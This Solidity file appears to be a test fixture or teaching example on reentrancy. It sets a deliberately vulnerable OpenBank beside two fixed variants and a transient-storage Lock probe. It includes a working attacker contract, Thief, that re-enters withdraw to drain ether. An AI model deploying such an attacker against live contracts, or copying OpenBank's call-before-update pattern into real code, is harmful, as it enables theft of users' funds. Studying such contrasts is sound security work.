// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {ReentrancyGuard} from "@openzeppelin/contracts/utils/ReentrancyGuard.sol";

contract OpenBank {
    mapping(address => uint256) public balances;

    function deposit() external payable {
        balances[msg.sender] += msg.value;
    }

    function withdraw() public virtual {
        uint256 owed = balances[msg.sender];
        (bool sent,) = msg.sender.call{value: owed}("");
        require(sent, "not sent");
        balances[msg.sender] = 0;
    }
}

contract GuardedBank is OpenBank, ReentrancyGuard {
    function withdraw() public override nonReentrant {
        super.withdraw();
    }
}

contract TransferBank is OpenBank {
    function withdraw() public override {
        uint256 owed = balances[msg.sender];
        balances[msg.sender] = 0;
        payable(msg.sender).transfer(owed);
    }
}

contract Thief {
    OpenBank public bank;
    uint256 public rounds;

    function rob(OpenBank from) external payable {
        bank = from;
        bank.deposit{value: msg.value}();
        bank.withdraw();
    }


    receive() external payable {
        rounds += 1;
        if (address(bank).balance >= msg.value && rounds < 5) bank.withdraw();
    }
}

contract Lock {
    uint256 private transient entered;
    uint256 public seen;

    function enter(uint256 times) external returns (uint256) {
        entered += 1;
        if (times > 0) this.enter(times - 1);
        seen = entered;
        return entered;
    }

    function enterAndFail(uint256 times) external {
        try this.enterThenRevert(times) {} catch (bytes memory reason) {
            seen = reason.length + entered;
        }
    }

    function enterThenRevert(uint256 times) external {
        entered = times;
        revert("taken back");
    }
}
